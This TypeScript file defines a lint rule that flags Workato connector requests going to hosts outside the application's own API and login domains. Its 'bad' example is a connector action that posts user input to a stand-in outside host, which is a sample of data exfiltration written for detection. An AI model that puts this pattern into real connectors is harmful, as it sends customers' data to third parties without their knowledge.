import type { Connector } from "../../connector/connector.ts";
import { createIsLogin } from "../../connector/method-reach.ts";
import { alternatives, textWithHoles, type Value } from "../../connector/value.ts";
import { defineRule, ruby } from "../../engine/rule.ts";

export const foreignHost = defineRule({
  id: "security/foreign-host",
  severity: "warning",
  confidence: "medium",
  since: "0.1.0",
  docs: {
    summary: "Sends requests to the application's own hosts only.",
    why: "Another host could receive customers' data, and a listing asks for none but the application's API.",
    remedy: "Remove the request, or name a further domain of the same vendor in the rule's option `hosts`.",
    sources: ["https://docs.workato.com/en/developing-connectors/community/certification.html"],
  },
  options: {
    hosts: { kind: "strings", default: [], summary: "Domains of the same vendor, such as `acme-files.com`." },
  },
  messages: {
    foreign: (host: string, own: string) =>
      `The request goes to \`${host}\`, while the connection is one to \`${own}\`.`,
  },
  examples: {
    bad: [
      {
        name: "a request to somebody else",
        source: ruby`
          {
            connection: { base_uri: lambda { |_c| 'https://api.acme.com' } },
            actions: { add: { execute: lambda { |_c, input| post('https://hooks.example.net/log', input) } } }
                                                            ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ foreign
          }
        `,
      },
    ],
    good: [
      {
        name: "another host of the application",
        source: ruby`
          {
            connection: { base_uri: lambda { |_c| 'https://api.acme.co.uk' } },
            actions: { add: { execute: lambda { |_c, input| post('https://files.acme.co.uk/log', input) } } }
          }
        `,
      },
      {
        name: "a login elsewhere, in a method",
        source: ruby`
          {
            connection: {
              base_uri: lambda { |_c| 'https://api.acme.com' },
              authorization: { type: 'custom_auth', acquire: lambda { |connection| call('log_in', connection) } }
            },
            methods: { log_in: lambda { |connection| post('https://acme.auth0.com/oauth/token', key: connection['key']) } }
          }
        `,
      },
      {
        name: "a login with a host for trying things out",
        source: ruby`
          {
            connection: {
              base_uri: lambda { |_c| 'https://api.acme.com' },
              authorization: {
                type: 'oauth2',
                token_url: lambda { |c| c['trial'] ? 'https://login.testpad.io/token' : 'https://login.acme.com/token' }
              }
            },
            actions: { add: { execute: lambda { |_c, input| post('https://api.testpad.io/log', input) } } }
          }
        `,
      },
      {
        name: "another domain of the vendor",
        source: ruby`
          {
            connection: { base_uri: lambda { |_c| 'https://api.acme.com' } },
            actions: { add: { execute: lambda { |_c, input| post('https://dl.acmefiles.net/log', input) } } }
          }
        `,
      },
      {
        name: "an address that the user gives",
        source: ruby`
          {
            connection: { base_uri: lambda { |c| c['address'] } },
            actions: { add: { execute: lambda { |_c, input| post('https://files.acme.com/log', input) } } }
          }
        `,
      },
    ],
  },
  create: (context) => ({
    end() {
      const own = ownDomains(context.connector);
      const [first] = own;
      if (!first) return;
      const allowed = new Set([...own, ...context.options.hosts.map(registrableDomain)]);
      for (const request of context.connector.requests) {
        const host = hostOf(request.url);
        if (!host || allowed.has(registrableDomain(host))) continue;
        if (![...own].some((domain) => isSameVendor(domain, registrableDomain(host))))
          context.report("foreign", request, [host, first]);
      }
    },
  }),
});

/** Whether one name goes on where the other ends, as vendors name their domains: `acme.com` and `acmefiles.com`. */
function isSameVendor(a: string, b: string): boolean {
  const [one = "", other = ""] = [a, b].map((domain) => domain.split(".")[0]);
  return Math.min(one.length, other.length) >= 3 && (one.startsWith(other) || other.startsWith(one));
}

/** The domains of the base address and of the login; empty where any of them is not known. */
function ownDomains(connector: Connector): ReadonlySet<string> {
  const domains = new Set<string>();
  for (const lambda of connector.lambdas.filter(({ key }) => key === "base_uri")) {
    for (const value of alternatives(lambda.result())) {
      const host = hostOf(value);
      if (!host) return new Set();
      domains.add(registrableDomain(host));
    }
  }
  if (domains.size === 0) return domains;
  const isLogin = createIsLogin(connector);
  const logins = [
    ...connector.requests.filter(({ lambda }) => isLogin(lambda)).map(({ url }) => url),
    ...connector.lambdas
      .filter(({ key }) => /^(?:authorization|token)_url$/u.test(key))
      .map((lambda) => lambda.result()),
  ];
  for (const value of logins.flatMap(alternatives)) {
    const host = hostOf(value);
    if (host) domains.add(registrableDomain(host));
  }
  return domains;
}

/** The host of an address, as far as its registrable part is literal. */
function hostOf(value: Value): string | null {
  const text = textWithHoles(value, "\0") ?? "";
  const host = /^https?:\/\/(?:[^/?#@\s]*@)?(?<host>[^/?#:\s]+)(?=[/?#:]|$)/iu.exec(text)?.groups?.["host"];
  if (!host) return null;
  const domain = registrableDomain(host);
  return domain.includes("\0") || !domain.includes(".") || /^[\d.]+$/u.test(domain)
    ? null
    : host.replaceAll("\0", "…");
}

/** Endings under which the public registers names, where they have two parts. The common ones are enough here. */
const doubleEnding = /\.(?:co|com|net|org|gov|edu|ac)\.[a-z]{2}$/u;

function registrableDomain(host: string): string {
  const lower = host.toLowerCase();
  return lower
    .split(".")
    .slice(doubleEnding.test(lower) ? -3 : -2)
    .join(".");
}
